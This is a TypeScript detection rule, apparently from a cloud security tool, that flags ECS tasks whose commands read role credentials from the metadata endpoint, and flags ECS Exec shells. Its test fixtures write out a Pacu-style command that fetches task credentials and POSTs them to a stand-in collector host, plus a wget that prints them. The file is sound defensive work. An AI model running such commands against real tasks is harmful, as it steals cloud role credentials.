import type { ApiEvent } from '../api-event.js';
import { assumedRole, ctEvent, iamUser, TERRAFORM_AGENT } from '../case-builders.js';
import type { ApiDetection, DetectionContext } from '../detection.js';
import { type BoundedMap, boundedMap, distinctInWindow, getEntry, HOUR, isAwsServiceCall, isIacAgent, isLongTermKey, type ItemWindow, learningOver, list, obj, ownAccount, personVars, str, wasHabit } from './gumshoe-common.js';

/**
 * An ECS task made to hand over its role's credentials: a task definition registered, or a task run with a
 * command override, whose container command fetches them from the ECS credential endpoint
 * (`169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`) or the instance metadata service's
 * `iam/security-credentials` (Pacu's ecs__backdoor_task_def). SDKs read the endpoint themselves; a command
 * that does it by hand is after the keys, and one that also names a web address sends them there.
 *
 * High when the command also sends to an address outside the task, Medium otherwise; infrastructure as code
 * one step lower (a reviewed change, but still a task whose purpose is its credentials).
 */
const TASK_CREDENTIALS = 'CredentialAccess:ECS/TaskCredentialsExfiltration.Gumshoe';
/**
 * ECS Exec: an interactive shell in a running container (ExecuteCommand), with the task role's credentials
 * and the application's secrets at hand, as Systems Manager sessions are on instances. A principal's first
 * exec into a cluster is Low (after the learning period, except for an IAM user's or root's long-term key,
 * the credential that leaks); a cluster it exec'd into on an earlier day is its habit and quiet. A long-term
 * key exec'ing into several tasks within an hour is Medium (Low when that cluster is its habit): someone
 * going through the workloads with a leaked key.
 */
const EXEC = 'Execution:ECS/ContainerShellOpened.Gumshoe';
const EXEC_FAN_OUT = 3;
const EXEC_WINDOW = HOUR;

const CREDENTIAL_ENDPOINT = /AWS_CONTAINER_CREDENTIALS_(RELATIVE|FULL)_URI|169\.254\.170\.2|169\.254\.169\.254\/latest\/meta-data\/iam|fd00:ec2::254/i;
/** A web address other than the two metadata endpoints: where the credentials are sent. */
const OUTSIDE_URL = /(https?:\/\/|\b(curl|wget)\b[^|;&]*\s)(?!169\.254\.)(\[?[a-z0-9.-]+\.[a-z]{2,}|\d{1,3}(\.\d{1,3}){3})/i;

/** Each container's command line (command, entry point), from a task definition or RunTask's overrides. */
function commandLines(event: ApiEvent): { container: string; line: string }[] {
  const request = event.request ?? {};
  const containers = event.api === 'RunTask' ? list(obj(request.overrides)?.containerOverrides) : list(request.containerDefinitions);
  return containers
    .map(obj)
    .filter((c): c is Record<string, unknown> => c !== null)
    .map((c) => ({ container: str(c.name) ?? 'unnamed', line: [...list(c.entryPoint), ...list(c.command)].map((part) => str(part) ?? '').join(' ') }))
    .filter((c) => c.line.trim() !== '');
}

function onTaskEvent(event: ApiEvent, context: DetectionContext): void {
  const stealing = commandLines(event).find((c) => CREDENTIAL_ENDPOINT.test(c.line));
  if (!stealing) return;
  const sends = OUTSIDE_URL.test(stealing.line);
  const iac = isIacAgent(event.userAgent);
  const severity = sends ? (iac ? 5 : 8) : iac ? 2 : undefined;
  const request = event.request ?? {};
  const task = str(request.family) ?? str(request.taskDefinition) ?? 'unknown-task';
  context.emit({
    type: TASK_CREDENTIALS,
    event,
    severity,
    aggregateBy: `${task}/${stealing.container}`,
    vars: {
      ...personVars(event),
      task,
      container: stealing.container,
      how: event.api === 'RunTask' ? 'ran a task overriding the command of' : 'registered a task definition whose command in',
      sends: sends ? ' and sends them to a web address' : '',
      role: str(request.taskRoleArn) ?? 'its task role',
    },
  });
}

interface ExecState {
  /** principal>account/region/cluster → when it first exec'd there. */
  habits: BoundedMap<number>;
  /** principal → tasks it exec'd into within the hour from `start`. */
  bursts: BoundedMap<ItemWindow>;
}

const execState = (context: DetectionContext) => context.state<ExecState>('ecs-exec', () => ({ habits: boundedMap(), bursts: boundedMap() }));

/** `prod` from `arn:aws:ecs:…:cluster/prod`, a task id from `…:task/prod/0f1e…`. */
const lastSegment = (value: string | undefined) => value?.replace(/^.*\//, '');

function onExec(event: ApiEvent, context: DetectionContext): void {
  const request = event.request ?? {};
  const cluster = lastSegment(str(request.cluster)) ?? 'default';
  const task = lastSegment(str(request.task) ?? str(event.response?.taskArn)) ?? 'unknown-task';
  const habitKey = `${event.principalKey}>${ownAccount(event)}/${event.region}/${cluster}`;
  const first = getEntry(execState(context).habits, habitKey) === undefined;
  const habit = wasHabit(execState(context).habits, habitKey, event.time);
  const tasks = distinctInWindow(execState(context).bursts, event.principalKey, task, event.time, EXEC_WINDOW);
  const longTerm = isLongTermKey(event);
  const fanOut = longTerm && tasks >= EXEC_FAN_OUT;
  if (!fanOut && !(first && (longTerm || learningOver(context, event)))) return;
  context.emit({
    type: EXEC,
    event,
    severity: fanOut && !habit ? 5 : 2,
    aggregateBy: cluster,
    vars: {
      ...personVars(event),
      cluster,
      scope: fanOut ? `${tasks} tasks of cluster ${cluster} within an hour, with a long-term access key` : `task ${task} of cluster ${cluster}`,
      container: str(request.container) ?? str(event.response?.containerName) ?? 'its container',
      command: str(request.command) ?? 'a shell',
    },
  });
}

function onEcsEvent(event: ApiEvent, context: DetectionContext): void {
  if (event.failed || isAwsServiceCall(event) || event.service !== 'ecs.amazonaws.com') return;
  if (event.api === 'ExecuteCommand') onExec(event, context);
  else onTaskEvent(event, context);
}

const intruder = iamUser('deploy-bot');
const terraform = assumedRole('TerraformApply', 'ci-run-8812');

/** RegisterTaskDefinition with one container whose shell command is `command`. */
const register = (command: string, identity: Record<string, unknown> = intruder, userAgent?: string, family = 'billing-worker') =>
  ctEvent({
    service: 'ecs',
    name: 'RegisterTaskDefinition',
    identity,
    userAgent,
    time: '2026-11-02T10:00:00Z',
    request: {
      family,
      taskRoleArn: 'arn:aws:iam::111122223333:role/billing-worker-task',
      executionRoleArn: 'arn:aws:iam::111122223333:role/ecsTaskExecutionRole',
      networkMode: 'awsvpc',
      requiresCompatibilities: ['FARGATE'],
      cpu: '256',
      memory: '512',
      containerDefinitions: [{ name: 'worker', image: '111122223333.dkr.ecr.us-east-1.amazonaws.com/billing-worker:2.4.1', essential: true, entryPoint: ['sh', '-c'], command: [command] }],
    },
    response: { taskDefinition: { taskDefinitionArn: `arn:aws:ecs:us-east-1:111122223333:task-definition/${family}:14`, family, revision: 14, status: 'ACTIVE' } },
  });

/** ExecuteCommand into `task` of `cluster`, as CloudTrail logs it (interactive is the only mode ECS Exec has). */
const execute = (task: string, time: string, identity: Record<string, unknown>, options: { cluster?: string; errorCode?: string } = {}) => {
  const cluster = options.cluster ?? 'prod';
  const taskArn = `arn:aws:ecs:us-east-1:111122223333:task/${cluster}/${task}`;
  return ctEvent({
    service: 'ecs',
    name: 'ExecuteCommand',
    identity,
    time,
    errorCode: options.errorCode,
    request: { cluster, container: 'web', command: '/bin/sh', interactive: true, task },
    response: options.errorCode
      ? null
      : {
          clusterArn: `arn:aws:ecs:us-east-1:111122223333:cluster/${cluster}`,
          containerArn: `arn:aws:ecs:us-east-1:111122223333:container/${cluster}/${task}/5b1c2d3e-4f50-4a61-8b72-9c83d4e5f601`,
          containerName: 'web',
          interactive: true,
          session: { sessionId: `ecs-execute-command-${task.slice(0, 8)}`, streamUrl: 'wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/ecs-execute-command', tokenValue: 'HIDDEN_DUE_TO_SECURITY_REASONS' },
          taskArn,
        },
  });
};
const tasks = ['0f1e2d3c4b5a49687766554433221100', '1a2b3c4d5e6f40718293a4b5c6d7e8f9', '2b3c4d5e6f7a48192a3b4c5d6e7f8091', '3c4d5e6f7a8b49203b4c5d6e7f809102'];
const oncall = assumedRole('AWSReservedSSO_OnCall_4c5d6e7f', 'frank@acme.example');

export const ecsTaskCredentials: ApiDetection = {
  id: 'gumshoe-ecs-task-credentials',
  source: 'cloudtrail',
  apis: ['RegisterTaskDefinition', 'RunTask', 'ExecuteCommand'],
  types: [
    {
      type: TASK_CREDENTIALS,
      dataSource: 'CloudTrailManagement',
      severity: 5,
      resourceType: 'AccessKey',
      mitre: { tactic: 'TA0006 Credential Access', technique: 'T1552.005 Unsecured Credentials: Cloud Instance Metadata API' },
      title: 'ECS task {task} reads its role’s credentials from the metadata endpoint{sends}.',
      description:
        '{principal} {how} container {container} of {task} from {ip}: the command fetches the credentials of {role} from the credential endpoint{sends}. Whoever reads the task’s output or receives that request holds the role.',
      remediation:
        'Deregister the task definition revision (or stop the task), find where its output went, and revoke the task role’s sessions (an inline deny on aws:TokenIssueTime). Restrict ecs:RegisterTaskDefinition and ecs:RunTask overrides to the deployment pipeline.',
    },
    {
      type: EXEC,
      dataSource: 'CloudTrailManagement',
      severity: 2,
      resourceType: 'AccessKey',
      mitre: { tactic: 'TA0002 Execution', technique: 'T1609 Container Administration Command' },
      title: '{principal} opened a shell in {scope}.',
      description:
        '{principal} called ExecuteCommand from {ip}, running {command} in container {container} of {scope}. The shell runs as the container’s user, with the task role’s credentials and the application’s secrets within reach.',
      remediation:
        'Confirm the session with the principal’s owner (ECS Exec can log each session’s commands to CloudWatch Logs or S3). If unexpected, stop the tasks, rotate the task role’s and the application’s secrets, and restrict ecs:ExecuteCommand (or turn off enableExecuteCommand on the services).',
    },
  ],
  onEvent: onEcsEvent,
  cases: () => [
    { name: 'an IAM user’s long-term key opens a shell in a production task (Low)', records: [execute(tasks[0]!, '2026-11-02T10:00:00Z', iamUser('bob'))], expect: [EXEC] },
    {
      name: 'a long-term key opens shells in three tasks of a cluster within 20 minutes (Medium)',
      records: tasks.slice(0, 3).map((task, i) => execute(task, `2026-11-02T10:${String(i * 10).padStart(2, '0')}:00Z`, iamUser('svc-reporting'))),
      expect: [EXEC],
    },
    {
      name: 'an SSO session’s first shell in a cluster, after the learning period',
      records: [execute(tasks[0]!, '2026-11-20T10:00:00Z', oncall)],
      settings: { learningDays: 0 },
      expect: [EXEC],
    },
    {
      name: 'an on-call engineer debugging the cluster they exec into every week; a denied exec',
      records: [
        execute(tasks[0]!, '2026-10-26T09:00:00Z', oncall),
        ...tasks.map((task, i) => execute(task, `2026-11-02T10:0${i}:00Z`, oncall)),
        execute(tasks[2]!, '2026-11-02T11:05:00Z', iamUser('intern'), { errorCode: 'AccessDeniedException' }),
      ],
      expect: [],
    },
    { name: 'a developer’s first exec into staging during the learning period', records: [execute(tasks[1]!, '2026-11-02T11:00:00Z', assumedRole('AWSReservedSSO_Developer_1a2b3c4d', 'grace@acme.example'), { cluster: 'staging' })], expect: [] },
    {
      name: 'a long-term key that exec’d into the cluster last week sweeps four tasks (Low), and its next day on the same cluster is quiet',
      records: [
        execute(tasks[0]!, '2026-10-26T09:00:00Z', iamUser('ops-admin')),
        ...tasks.map((task, i) => execute(task, `2026-11-02T10:0${i}:00Z`, iamUser('ops-admin'))),
        execute(tasks[0]!, '2026-11-03T10:00:00Z', iamUser('ops-admin')),
      ],
      expect: [EXEC],
    },
    {
      name: 'Pacu-style backdoored task definition posting its credentials out (High)',
      records: [register('apk add --no-cache curl; curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- https://collector.example.net/c')],
      expect: [TASK_CREDENTIALS],
    },
    {
      name: 'a task run with its command overridden to print the credentials (Medium)',
      records: [
        ctEvent({
          service: 'ecs',
          name: 'RunTask',
          identity: intruder,
          time: '2026-11-02T10:00:00Z',
          request: {
            cluster: 'prod',
            taskDefinition: 'billing-worker:13',
            launchType: 'FARGATE',
            count: 1,
            overrides: { containerOverrides: [{ name: 'worker', command: ['sh', '-c', 'wget -qO- 169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}'] }] },
          },
        }),
      ],
      expect: [TASK_CREDENTIALS],
    },
    {
      name: 'ordinary task definitions and runs: an app command, a health check through Terraform, a migration run by the pipeline',
      records: [
        register('python -m billing.worker --queue https://sqs.us-east-1.amazonaws.com/111122223333/billing'),
        register('curl -fsS http://localhost:8080/health && exec java -jar /app/app.jar', terraform, TERRAFORM_AGENT, 'web'),
        ctEvent({
          service: 'ecs',
          name: 'RunTask',
          identity: assumedRole('DeployPipeline', 'deploy-991'),
          time: '2026-11-02T10:05:00Z',
          request: { cluster: 'prod', taskDefinition: 'db-migrate:7', overrides: { containerOverrides: [{ name: 'migrate', command: ['bundle', 'exec', 'rake', 'db:migrate'] }] } },
        }),
      ],
      expect: [],
    },
  ],
};
